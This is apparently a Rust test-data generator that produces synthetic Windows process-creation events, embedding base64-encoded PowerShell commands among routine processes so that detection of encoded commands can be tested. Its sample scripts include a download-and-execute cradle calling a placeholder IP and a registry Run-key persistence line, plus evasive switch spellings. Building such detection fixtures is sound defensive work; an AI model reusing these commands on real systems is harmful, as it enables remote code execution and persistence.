//! Process-creation events, made up but of the real ones' shape: the columns of `Windows.Events.ProcessCreation`, a fleet's everyday
//! processes, and one encoded PowerShell command among every hundred, whose script is known.
//!
//! The same seed gives the same events, on every machine.

use base64::{Engine as _, prelude::BASE64_STANDARD};
use serde::Serialize;

/// The client artifact under whose name they are reported.
pub const ARTIFACT: &str = "Windows.Events.ProcessCreation";

/// One event in so many carries an encoded command.
pub const ENCODED_EVERY: u64 = 100;

/// An event, ready to be sent.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Event {
    /// Which client reports it.
    pub client: String,
    /// It as one line of JSON, without the line's end.
    pub json: String,
    /// The script that is encoded in it, where there is one.
    pub script: Option<String>,
}

/// A client of the made-up fleet.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Endpoint {
    /// Its id.
    pub id: String,
    /// Its hostname.
    pub hostname: String,
}

/// A fleet that goes on reporting for ever.
#[derive(Clone, Debug)]
pub struct Fleet {
    endpoints: Vec<Endpoint>,
    random: fastrand::Rng,
    made: u64,
}

#[derive(Serialize)]
#[serde(rename_all = "PascalCase")]
struct ProcessCreation<'a> {
    client_id: &'a str,
    hostname: &'a str,
    timestamp: String,
    #[serde(rename = "PID")]
    pid: u32,
    #[serde(rename = "PPID")]
    ppid: u32,
    name: &'a str,
    exe: &'a str,
    command_line: &'a str,
    parent_info: &'a str,
    parent_command_line: &'a str,
    username: String,
    hash: String,
    source: Source,
}

#[derive(Serialize)]
#[serde(rename_all = "PascalCase")]
struct Source {
    channel: &'static str,
    #[serde(rename = "EventID")]
    event_id: u32,
}

/// What runs on an endpoint all day: program, command line, parent, parent's command line. `#` stands for a number.
/// Some name PowerShell, or look encoded, and are not.
const EVERYDAY: [(&str, &str, &str, &str); 10] = [
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\System32\wbem\wmiprvse.exe -secured -Embedding",
        r"C:\Windows\System32\svchost.exe",
        r"svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Program Files\Google\Chrome\chrome.exe",
        r#""chrome.exe" --type=renderer --lang=en-GB --renderer-id=#"#,
        r"C:\Program Files\Google\Chrome\chrome.exe",
        r"chrome.exe --restore-last-session",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\System32\conhost.exe 0xffffffff -ForceV1",
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /d /c backup-#.cmd",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /d /s /c \\fileserver\scripts\inventory-#.cmd",
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe Install-Updates-#",
        r"C:\Windows\System32\svchost.exe",
        r"svchost.exe -k netsvcs -p",
    ),
    (
        r"C:\Program Files\Git\cmd\git.exe",
        r#"git.exe -c core.quotepath=false commit -m "fix #""#,
        r"C:\Program Files\Code\Code.exe",
        r#""Code.exe" --no-sandbox"#,
    ),
    (
        r"C:\Windows\System32\SearchIndexer.exe",
        r"C:\Windows\System32\SearchIndexer.exe /Embedding",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        r"C:\Windows\System32\svchost.exe",
        r"svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Windows\System32\msiexec.exe",
        r"C:\Windows\System32\msiexec.exe /V",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\System32\services.exe",
    ),
];

/// PowerShell as administrators use it: near to an encoded command, and none.
const PLAIN_POWERSHELL: [&str; 4] = [
    r"powershell.exe -ep bypass -File C:\scripts\rotate-logs-#.ps1",
    r"powershell.exe -NoProfile -Command Get-Content -Encoding utf8 C:\logs\#.txt",
    r#"powershell.exe -NoLogo -ExecutionPolicy RemoteSigned -File "C:\Program Files\Agent\check-#.ps1" -EncodedOutput no"#,
    r"pwsh.exe -c Write-Output -e #",
];

/// Ways to write the same switch, all of which PowerShell takes.
const SWITCHES: [&str; 6] = [
    "-EncodedCommand",
    "-enc",
    "-e",
    "/ec",
    "-eNcOdEd",
    "\u{2013}enc",
];

/// Scripts as attackers and administrators encode them. `#` stands for a number.
const SCRIPTS: [&str; 5] = [
    "Get-Process | Where-Object Id -eq #",
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a#.ps1')",
    "Write-Host 'h\u{e9}llo \u{1f600} #'",
    "Set-ItemProperty -Path 'HKCU:\\Software\\Run' -Name 'u#' -Value 'calc.exe'",
    "Start-Sleep -Seconds #; Restart-Service Spooler",
];

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

impl Fleet {
    /// A fleet of `clients` endpoints.
    pub fn new(seed: u64, clients: u32) -> Self {
        let endpoints = (0..clients)
            .map(|number| Endpoint {
                id: format!("C.{:016x}", 0x5eed_0000_0000_0000 + u64::from(number)),
                hostname: format!("WS{number:04}"),
            })
            .collect();
        Self {
            endpoints,
            random: fastrand::Rng::with_seed(seed),
            made: 0,
        }
    }

    /// Its endpoints.
    pub fn endpoints(&self) -> &[Endpoint] {
        &self.endpoints
    }

    /// `count` events as NDJSON, and the scripts encoded in them.
    pub fn ndjson(&mut self, count: usize) -> (Vec<u8>, Vec<String>) {
        let mut text = Vec::with_capacity(count * 480);
        let mut scripts = Vec::new();
        for event in self.take(count) {
            text.extend_from_slice(event.json.as_bytes());
            text.push(b'\n');
            scripts.extend(event.script);
        }
        (text, scripts)
    }

    /// An event with `script` encoded in it.
    pub fn encoded(&mut self, script: &str) -> Event {
        let switch = SWITCHES[self.random.usize(..SWITCHES.len())];
        let command_line = format!("powershell.exe -NoP {switch} {}", encode(script));
        let parent = (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c start.cmd");
        self.event(POWERSHELL, &command_line, parent, Some(script.to_owned()))
    }

    fn event(
        &mut self,
        exe: &str,
        command_line: &str,
        parent: (&str, &str),
        script: Option<String>,
    ) -> Event {
        let endpoint = self.endpoints[self.random.usize(..self.endpoints.len())].clone();
        let event = ProcessCreation {
            client_id: &endpoint.id,
            hostname: &endpoint.hostname,
            timestamp: timestamp(self.made),
            pid: self.random.u32(1_000..30_000),
            ppid: self.random.u32(400..1_000),
            name: exe.rsplit('\\').next().unwrap_or(exe),
            exe,
            command_line,
            parent_info: parent.0,
            parent_command_line: parent.1,
            username: format!("CORP\\user{:02}", self.random.u32(..100)),
            hash: format!("MD5={:032X}", self.random.u128(..)),
            source: Source {
                channel: "Security",
                event_id: 4688,
            },
        };
        // Text and numbers only: there is nothing in it that JSON could not write.
        let json = serde_json::to_string(&event).unwrap_or_default();
        self.made += 1;
        Event {
            client: endpoint.id,
            json,
            script,
        }
    }
}

impl Iterator for Fleet {
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        let number = self.made.to_string();
        Some(match self.made % ENCODED_EVERY {
            42 => {
                let script = SCRIPTS[self.random.usize(..SCRIPTS.len())].replace('#', &number);
                self.encoded(&script)
            }
            17 => {
                let line = PLAIN_POWERSHELL[self.random.usize(..PLAIN_POWERSHELL.len())]
                    .replace('#', &number);
                self.event(
                    POWERSHELL,
                    &line,
                    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
                    None,
                )
            }
            _ => {
                let (exe, line, parent, parent_line) =
                    EVERYDAY[self.random.usize(..EVERYDAY.len())];
                self.event(
                    exe,
                    &line.replace('#', &number),
                    (parent, &parent_line.replace('#', &number)),
                    None,
                )
            }
        })
    }
}

/// What stands behind the switch: base64 of UTF-16LE.
pub fn encode(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    BASE64_STANDARD.encode(bytes)
}

/// One event a millisecond, from a fixed day on.
fn timestamp(number: u64) -> String {
    let (seconds, millis) = (number / 1_000, number % 1_000);
    let (day, hour, minute) = (
        1 + seconds / 86_400 % 28,
        seconds / 3_600 % 24,
        seconds / 60 % 60,
    );
    format!(
        "2026-11-{day:02}T{hour:02}:{minute:02}:{:02}.{millis:03}Z",
        seconds % 60
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_events() {
        assert_eq!(
            Fleet::new(7, 5).ndjson(1_000),
            Fleet::new(7, 5).ndjson(1_000)
        );
        assert_ne!(
            Fleet::new(7, 5).ndjson(1_000),
            Fleet::new(8, 5).ndjson(1_000)
        );
    }

    #[test]
    fn one_in_a_hundred_is_encoded_and_its_script_is_told() {
        let events: Vec<_> = Fleet::new(1, 20).take(10_000).collect();
        let encoded: Vec<_> = events
            .iter()
            .filter(|event| event.script.is_some())
            .collect();
        assert_eq!(encoded.len(), 100);
        for event in encoded {
            let script = event.script.as_deref().unwrap();
            assert!(event.json.contains(&encode(script)), "{}", event.json);
        }
    }

    #[test]
    fn a_line_is_as_long_as_the_peers_were_measured_with() {
        let (text, _) = Fleet::new(1, 20).ndjson(20_000);
        let average = text.len() / 20_000;
        assert!((455..=480).contains(&average), "{average} bytes a line");
    }

    #[test]
    fn encoded_text_is_what_powershell_takes() {
        assert_eq!(encode("dir"), "ZABpAHIA");
    }
}
